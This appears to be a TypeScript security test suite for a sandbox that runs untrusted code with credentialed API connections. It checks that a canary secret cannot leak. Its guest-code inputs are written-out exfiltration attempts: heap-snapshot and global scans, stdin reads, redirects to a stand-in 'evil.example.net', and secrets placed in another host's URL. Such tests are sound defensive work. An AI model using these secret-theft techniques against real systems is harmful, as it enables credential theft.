import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { Secret } from "../domain/secret.ts";
import type { OpenConnection } from "../egress/types.ts";
import { runVersion } from "../services/run_version.ts";
import type { TestSandbox } from "../testing/block_sandbox.ts";
import type { Site } from "../testing/internet/types.ts";
import { withBroker } from "../testing/internet/with_broker.ts";
import { CANARY, openConnection } from "../testing/open_connection.ts";
import { asCompiled } from "./as_compiled.ts";
import { attackTest, sharedLab } from "./lab.ts";

const openLab = sharedLab();
const API = "https://api.example.org";
const HOSTS = ["api.example.org", "api.example.org:8443", "other.example.org"];

const SPELLINGS: Readonly<Record<string, string>> = {
  "as it is": CANARY,
  "as base64": btoa(CANARY),
  "as base64 of a URL": btoa(CANARY).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""),
  "in base64 of more": btoa(`x:${CANARY}`),
  "escaped for a URL": encodeURIComponent(CANARY),
  "escaped for a form": new URLSearchParams({ a: CANARY }).toString().slice(2),
  "escaped for JSON": JSON.stringify(CANARY).slice(1, -1).replaceAll("/", "\\/"),
  "escaped for HTML": CANARY.replaceAll("&", "&amp;"),
};

/** Moves on when asked to, and else gives back whatever it is asked to, in the place it is asked to. */
const SITE: Site = {
  hosts: [...HOSTS, "evil.example.net"],
  async handle(request) {
    const url = new URL(request.url);
    const to = url.searchParams.get("to");
    if (to !== null) {
      return new Response(null, {
        status: Number(url.searchParams.get("status") ?? 302),
        headers: { location: to },
      });
    }
    const sent = `${request.url} ${[...request.headers].join()} ${await request.text()}`;
    const text = SPELLINGS[url.searchParams.get("spelling") ?? ""] ?? sent;
    switch (url.searchParams.get("place")) {
      case "header":
        return new Response("x", { headers: { "x-echo": text.replace(/[^\x20-\x7e]/g, "") } });
      case "error":
        return new Response(text, { status: 500 });
      case "status":
        return new Response("x", { statusText: text.replace(/[^\x20-\x7e]/g, "") });
      case "gzip":
        return new Response(new Uint8Array(gzipSync(text)), { headers: { "content-encoding": "gzip" } });
      case "json":
        return Response.json({ [text]: [text] });
    }
    return new Response(text);
  },
};

interface Told {
  readonly whole: string;
  readonly outcomeKind: string;
  /** Requests that arrived, as JSON each. */
  readonly arrived: readonly string[];
}

async function tell(kit: TestSandbox, body: string, connections: readonly OpenConnection[]): Promise<Told> {
  let told: Told | undefined;
  await withBroker([SITE], async (broker, internet) => {
    const run = await runVersion({ sandbox: kit.sandbox, broker }, {
      ...{ owner: "b1", compiled: asCompiled(body), settings: {}, hosts: HOSTS, lanHosts: [], connections },
      ...{ nowMs: 0, timeZone: "UTC", locale: "en", previous: null, history: [], schema: {} },
    });
    told = {
      whole: JSON.stringify(run),
      outcomeKind: run.outcome.kind,
      arrived: internet.seen.map((seen) => JSON.stringify(seen)),
    };
  });
  assert(told !== undefined);
  return told;
}

function assertNoSecret(text: string): void {
  for (const [how, spelling] of Object.entries(SPELLINGS)) {
    if (how === "in base64 of more") continue;
    const quoted = JSON.stringify(spelling).slice(1, -1);
    assert(
      !text.includes(spelling) && !text.includes(quoted),
      `the secret came out ${how}: ${text.slice(0, 1_000)}`,
    );
  }
}

/** Places of a guest where a secret could lie. */
const PLACES: Readonly<Record<string, string>> = {
  "ctx":
    `return [Object.entries(ctx).map(([k, v]) => [k, typeof v === "function" ? v.toString() : JSON.stringify(v) ?? null]), Deno.inspect(ctx, { depth: 9, showHidden: true })];`,
  "what ctx.secret gives":
    `return ["API", "api", "constructor", "__proto__"].map((n) => { try { return String(ctx.secret(n)); } catch (e) { return e.message; } });`,
  "the process":
    `return [Deno.args, Deno.mainModule, process.argv, process.execArgv, process.title, process.config, Deno.inspect(process, { depth: 2 })];`,
  "the globals": `
    const seen = new Set(); const texts = [];
    const walk = (v, depth) => {
      if (typeof v === "string") return void texts.push(v);
      if ((typeof v !== "object" && typeof v !== "function") || v === null || seen.has(v) || depth > 6 || seen.size > 20000) return;
      seen.add(v);
      for (const k of Reflect.ownKeys(v)) { try { walk(v[k], depth + 1); } catch {} }
    };
    walk(globalThis, 0); walk(ctx, 0); walk(arguments, 0); walk(require("zod"), 3);
    return texts.filter((t) => t.length > 8 && /c4nar[y]|s3cre[t]/.test(t)).concat("done");`,
  "the rest of its input": `
    const part = new Uint8Array(4096); const texts = [];
    const read = Deno.stdin.read(part).then((n) => texts.push(new TextDecoder().decode(part.subarray(0, n ?? 0))));
    fetch("${API}/", { connection: "API" }).catch(() => {});
    await Promise.race([read, new Promise((ok) => setTimeout(ok, 300))]);
    return texts;`,
  "its whole heap": `
    await (await fetch("${API}/", { connection: "API" })).text();
    let found = []; let rest = "";
    for await (const part of process.getBuiltinModule("v8").getHeapSnapshot()) {
      const text = rest + part;
      if (/c4nar[y].s3cre[t]/.test(text)) found.push("found");
      rest = text.slice(-60);
    }
    return found.concat("done");`,
  "a stack and an error":
    `try { await fetch("${API}/", { connection: "API", body: "x" }); } catch (e) { return [e.stack, e.message, Deno.inspect(e, { depth: 9 })]; }`,
  "the answer's own request":
    `const r = await fetch("${API}/?a=1", { connection: "API" }); return [r.url, [...r.headers], Deno.inspect(r, { depth: 5 })];`,
};

for (const [name, body] of Object.entries(PLACES)) {
  attackTest(`attack 143 no secret is in ${name}`, async () => {
    const { kit } = await openLab();
    const { whole } = await tell(kit, body, [openConnection()]);
    assertNoSecret(whole);
    assert(!whole.includes("found"), whole.slice(0, 500));
  });
}

const AUTHS: Readonly<Record<string, { readonly connection: OpenConnection; readonly use: string }>> = {
  "a bearer token": { connection: openConnection(), use: `{ connection: "API" }` },
  "a password": {
    connection: openConnection({ auth: { kind: "basic", user: "jo" } }),
    use: `{ connection: "API" }`,
  },
  "an X-Api-Key": {
    connection: openConnection({ auth: { kind: "header", header: "X-Api-Key", prefix: "" } }),
    use: `{ connection: "API" }`,
  },
  "a query": {
    connection: openConnection({ auth: { kind: "query", parameter: "key" } }),
    use: `{ connection: "API" }`,
  },
  "a placeholder in a header": {
    connection: openConnection({ auth: { kind: "placeholder" } }),
    use: `{ headers: { "x-key": ctx.secret("API") } }`,
  },
  "a placeholder in a body": {
    connection: openConnection({ auth: { kind: "placeholder" } }),
    use:
      `{ method: "POST", body: JSON.stringify({ k: ctx.secret("API") }), headers: { "content-type": "application/json" } }`,
  },
};

const TARGETS: Readonly<Record<string, string>> = {
  "another declared host": "https://other.example.org/end",
  "another port": "https://api.example.org:8443/end",
  "the same host without TLS": "http://api.example.org/end",
  "an undeclared host": "https://evil.example.net/end",
  "a user before the host": "https://api.example.org@other.example.org/end",
};

for (const [how, { connection, use }] of Object.entries(AUTHS)) {
  for (const [where, target] of Object.entries(TARGETS)) {
    attackTest(`attack 145 ${how} does not follow a redirect to ${where}`, async () => {
      const { kit } = await openLab();
      const ask = (status: number) =>
        `await fetch("${API}/go?status=${status}&to=" + encodeURIComponent(${
          JSON.stringify(target)
        }), ${use}).then((r) => r.text(), (e) => e.message)`;
      const { whole, arrived } = await tell(kit, `return [${ask(302)}, ${ask(307)}];`, [connection]);
      assertNoSecret(whole);
      const [first = "", ...others] = arrived;
      const isSent = (text: string) =>
        text.includes(CANARY) || text.includes(encodeURIComponent(CANARY)) ||
        text.includes(btoa(`jo:${CANARY}`));
      assert(isSent(first), `the premise: the bound origin gets it: ${first}`);
      for (const one of others.filter((each) => each.includes("/end"))) assert(!isSent(one), one);
    });
  }
}

for (
  const asked of [
    "https://other.example.org/",
    "https://api.example.org:8443/",
    "http://api.example.org/",
    "https://API.example.org.evil.test/",
  ]
) {
  attackTest(`attack 145 a connection is not used for ${asked} at the first hop`, async () => {
    const { kit } = await openLab();
    const { whole, arrived } = await tell(
      kit,
      `return await fetch("${asked}", { connection: "API" }).then((r) => r.status, (e) => e.kind);`,
      [openConnection()],
    );
    assertNoSecret(whole + arrived.join());
    assert.match(whole, /permission|host_not_declared/);
  });
}

for (const place of ["body", "header", "error", "status", "gzip", "json"]) {
  for (const spelling of [...Object.keys(SPELLINGS), "whatever was sent"]) {
    if (spelling === "in base64 of more") continue;
    attackTest(`attack 146 a secret that is given back ${spelling} in the ${place}`, async () => {
      const { kit } = await openLab();
      const body = `
        const r = await fetch("${API}/?place=${place}&spelling=${
        encodeURIComponent(spelling)
      }", { connection: "API" });
        const text = await r.text();
        console.log(text, r.statusText);
        throw new Error([text, r.statusText, r.headers.get("x-echo")].join());`;
      const { whole, arrived, outcomeKind } = await tell(kit, body, [openConnection()]);
      assert.equal(outcomeKind, "failed");
      assert(arrived.join().includes(CANARY), "the premise: the host got it");
      assertNoSecret(whole);
    });
  }
}

attackTest("attack 146 a secret is not put together again from what the block chose to ask", async () => {
  const { kit } = await openLab();
  const body = `
    const parts = [];
    for (let i = 0; i < 5; i++) parts.push(await (await fetch("${API}/part" + i, { connection: "API", headers: { range: "bytes=" + i } })).text());
    return parts;`;
  assertNoSecret((await tell(kit, body, [openConnection()])).whole);
});

attackTest(
  "attack 152 a placeholder in the address of another host is refused or stays a placeholder",
  async () => {
    const { kit } = await openLab();
    const connection = openConnection({ auth: { kind: "placeholder" }, secret: new Secret(CANARY) });
    const body = `
    const key = ctx.secret("API");
    const ask = (input, init) => fetch(input, init).then((r) => r.text(), (e) => e.kind);
    return [await ask("https://other.example.org/?k=" + key), await ask("https://other.example.org/", { method: "POST", body: key }), await ask("https://other.example.org/" + key), await ask("https://" + key + ".example.org/")];`;
    const { whole, arrived } = await tell(kit, body, [connection]);
    assertNoSecret(whole + arrived.join());
  },
);
